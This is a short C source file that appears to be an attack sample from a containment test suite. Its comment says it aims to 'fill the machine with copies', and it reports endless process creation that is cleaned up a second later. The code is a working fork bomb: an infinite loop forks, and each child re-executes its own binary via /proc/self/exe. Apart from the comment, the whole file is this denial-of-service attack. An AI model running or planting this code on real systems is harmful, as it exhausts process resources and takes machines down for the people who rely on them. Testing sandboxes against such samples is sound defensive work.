/* Tries: to fill the machine with copies that are programs anew.
   Held: the report says that it makes processes without end; none is left a second later. */
#include "attack.h"

int main(void) {
    for (;;)
        if (fork() == 0)
            execl("/proc/self/exe", "again", NULL);
}
